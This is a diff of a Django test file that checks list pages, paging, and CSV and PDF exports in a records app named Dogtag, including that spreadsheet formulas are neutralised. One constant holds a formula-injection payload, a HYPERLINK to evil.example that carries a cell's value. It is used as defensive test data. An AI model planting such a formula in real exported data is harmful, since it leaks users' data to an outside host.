@@ -1,15 +1,19 @@
-"""Every list page and report exports CSV from its table object (lib/tables.py): the complete
-list, streamed, scoped like the page; and no cell leaves Dogtag as a spreadsheet formula."""
+"""Every list page and report is a table object (lib/tables.py): the page shows a page of it,
+the CSV (complete, streamed, scoped like the page) and the PDF every row, all under the columns
+of the one definition; and no cell leaves Dogtag as a spreadsheet formula."""
 
 import csv
 import io
 from datetime import date
+from html.parser import HTMLParser
+from unittest.mock import patch
 
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
 from dogtag.accounts.models import Role
+from dogtag.enforcement import tables as enforcement_tables
 from dogtag.enforcement.models import Case
 from dogtag.imports.models import ImportRun
 from dogtag.lib.tables import FORMULA_STARTS, Column, Report, cell, neutralise, table, to_csv
@@ -31,12 +35,42 @@ LIST_PAGES = [
     ("my-cases", []),
     ("municipality-cases", ["benton"]),
     ("hen-permits", ["webster"]),
+    ("import", ["benton"]),
 ]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 def rows_of(response) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text(response))))
+
+
+class _Tables(HTMLParser):
+    """The tables of a page: their class and their column headings."""
+
+    def __init__(self):
+        super().__init__()
+        self.tables, self._th = [], None
+
+    def handle_starttag(self, tag, attrs):
+        if tag == "table":
+            self.tables.append((dict(attrs).get("class"), []))
+        elif tag == "th" and self.tables:
+            self._th = ""
+
+    def handle_data(self, data):
+        if self._th is not None:
+            self._th += data
+
+    def handle_endtag(self, tag):
+        if tag == "th" and self._th is not None:
+            self.tables[-1][1].append(self._th.strip())
+            self._th = None
+
+
+def tables_of(response) -> list[tuple[str | None, list[str]]]:
+    parser = _Tables()
+    parser.feed(text(response))
+    return parser.tables
 
 
 def test_a_formula_is_neutralised_and_a_number_is_not():
@@ -79,6 +113,30 @@ class ListCsvTests(BaseTestCase):
                 self.assertEqual(pdf.status_code, 200)
                 self.assertTrue(pdf.content.startswith(b"%PDF"))
 
+    def test_every_list_page_shows_the_columns_its_export_has(self):
+        """No list page draws a table of its own: each table on it is the rendered definition,
+        and its headings are a header row of the page's CSV."""
+        self.login(self.staff)
+        for name, args in LIST_PAGES:
+            with self.subTest(name):
+                url = reverse(name, args=args)
+                query = {"q": "Rex"} if name == "search" else {}
+                shown = tables_of(self.client.get(url, query))
+                self.assertTrue(shown)
+                self.assertEqual([cls for cls, _ in shown], ["list"] * len(shown), "a hand-written table")
+                exported = rows_of(self.client.get(url, {"format": "csv", **query}))
+                for _, headings in shown:
+                    self.assertIn(headings, exported)
+
+    def test_a_column_added_to_the_definition_shows_on_the_page_and_in_the_export(self):
+        self.login(self.staff)
+        url = reverse("municipality-cases", args=["benton"])
+        with patch.object(enforcement_tables, "CASES", [*enforcement_tables.CASES, Column("Kind", "kind")]):
+            (table_shown,) = tables_of(self.client.get(url))
+            exported = rows_of(self.client.get(url, {"format": "csv"}))
+        self.assertEqual(table_shown[1], ["Case", "Opened", "Animal", "Owner", "Status", "Kind"])
+        self.assertEqual(exported[0], table_shown[1])
+
     def test_the_search_export_holds_what_the_page_shows(self):
         self.login(self.clerk)
         rows = rows_of(self.client.get("/search/", {"q": "Rex", "format": "csv"}))
@@ -102,7 +160,10 @@ class CompleteExportTests(BaseTestCase):
         )
         self.login(self.officer)
         url = reverse("municipality-cases", args=["benton"])
-        self.assertContains(self.client.get(url), "Barking", count=200)  # the page shows its first 200
+        page = self.client.get(url)
+        self.assertContains(page, "Barking", count=100)  # the page shows 100 of them
+        self.assertContains(page, "Page 1 of 100 (10000 in all)")
+        self.assertContains(self.client.get(url, {"page": 100}), "Barking 0<")  # the last page, the first case
         with CaptureQueriesContext(connection) as queries:
             rows = rows_of(self.client.get(url, {"format": "csv"}))
         # One query reads the cases, its rows fetched in chunks as the CSV is written.
@@ -122,12 +183,23 @@ class FormulaInjectionTests(BaseTestCase):
         super().setUpTestData()
         benton_license(cls)
         cls.evil = actions.create_person(
-            acting_user=cls.clerk, municipality=cls.benton, name=EVIL, street="1 A St", city="Benton",
+            acting_user=cls.clerk,
+            municipality=cls.benton,
+            name=EVIL,
+            street="1 A St",
+            city="Benton",
             postal_code="53803",
         )
         cls.evil_dog = actions.register_animal(
-            acting_user=cls.clerk, municipality=cls.benton, owner=cls.evil, name=EVIL, breed="Mutt", color="black",
-            sex="male", birth_date=date(2024, 3, 1), acquired_on=date(2024, 5, 1),
+            acting_user=cls.clerk,
+            municipality=cls.benton,
+            owner=cls.evil,
+            name=EVIL,
+            breed="Mutt",
+            color="black",
+            sex="male",
+            birth_date=date(2024, 3, 1),
+            acquired_on=date(2024, 5, 1),
         )
         Case.objects.create(municipality=cls.benton, kind=Case.Kind.COMPLAINT, title=EVIL, owner=cls.evil)
         ImportRun.objects.create(
